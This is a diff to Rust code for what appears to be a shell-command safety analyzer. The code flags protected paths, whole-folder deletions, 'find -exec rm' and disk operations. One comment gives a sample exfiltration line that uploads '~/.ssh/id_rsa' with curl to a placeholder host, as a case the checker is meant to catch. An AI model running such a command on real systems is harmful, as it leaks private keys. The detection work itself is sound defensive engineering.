@@ -47,9 +47,9 @@ impl Scene<'_> {
     /// A word that names what must not be touched.
     pub(super) fn path(&mut self, word: &Word) {
         let range = word.span.clone();
-        if paths::rules(word, self.machine) {
+        if self.here(|machine| paths::rules(word, machine)) {
             self.rules(range);
-        } else if protected::touches(word, self.machine) {
+        } else if self.here(|machine| protected::touches(word, machine)) {
             let strip = Strip::TouchesProtected(told(&word.text));
             self.mark(PieceKind::Own, Tier::Danger, range, Note::Protected, strip);
         }
@@ -93,12 +93,23 @@ impl Scene<'_> {
         }
         if let Some(note) = effects::destroys(&name, &all[1..]) {
             let strip = Strip::Destroys;
-            let all = note == Note::DeletesBelow || note == Note::DeletesFound;
+            let all = [
+                Note::DeletesBelow,
+                Note::DeletesFound,
+                Note::DeletesUntracked,
+            ]
+            .contains(&note);
             self.mark(PieceKind::Destr, Tier::Caution, whole.clone(), note, strip);
             if all {
                 self.whole_folders(&name, words);
             }
         }
+        let removes = |pair: &[&str]| pair[0].starts_with("-exec") && base_name(pair[1]) == "rm";
+        if name == "find" && all.windows(2).any(removes) {
+            self.whole_folders(&name, words);
+        }
+        self.disks(&name, words);
+        self.goes(&name, words);
         self.talks |= talks(&name, &all);
         if let Some(code) = effects::code(&name, &all).and_then(|at| words.get(at)) {
             let (note, range) = (Note::CodeFor(told(&name)), code.span.clone());
@@ -152,42 +163,6 @@ impl Scene<'_> {
                     self.uninspectable(range, Note::TooDeep);
                 }
             }
-        }
-    }
-
-    /// Folders that are deleted with everything below them, and with that more than a task needs: a
-    /// root, a home, a disk that is mounted, a folder that holds the one of the request.
-    fn whole_folders(&mut self, name: &str, words: &[Word]) {
-        let operands = words[1..].iter();
-        let operands: Vec<&Word> = match name {
-            // A find that chooses deletes less than everything.
-            "find" if words.last().is_none_or(|word| word.text != "-delete") => return,
-            "find" => {
-                let options = |word: &&&Word| !word.text.starts_with(['-', '(', '!']);
-                let folders: Vec<&Word> =
-                    operands.clone().take_while(|word| options(&word)).collect();
-                if folders.len() + 1 < operands.len() {
-                    return;
-                }
-                folders
-            }
-            _ => operands
-                .filter(|word| !word.text.starts_with('-'))
-                .collect(),
-        };
-        for word in operands {
-            let Some(folder) = paths::whole_folder(word, self.machine) else {
-                continue;
-            };
-            let strip = Strip::DeletesAllIn(told(&folder));
-            let range = word.span.clone();
-            self.mark(
-                PieceKind::Destr,
-                Tier::Danger,
-                range,
-                Note::DeletesBelow,
-                strip,
-            );
         }
     }
 
@@ -295,6 +270,14 @@ impl Scene<'_> {
             Strip::Sets(set.clone())
         };
         let note = Note::Sets(set);
+        // What a later word stands for: `k=~/.ssh/id_rsa; curl -T $k h`.
+        let value = raw
+            .split_once('=')
+            .map_or("", |(_, value)| value.trim_matches(['"', '\'']));
+        let word = Word::at(value.to_owned(), range.clone());
+        if value.starts_with(['~', '$', '/']) {
+            self.path(&word);
+        }
         self.mark(PieceKind::Env, Tier::Caution, range, note, strip);
     }
 }
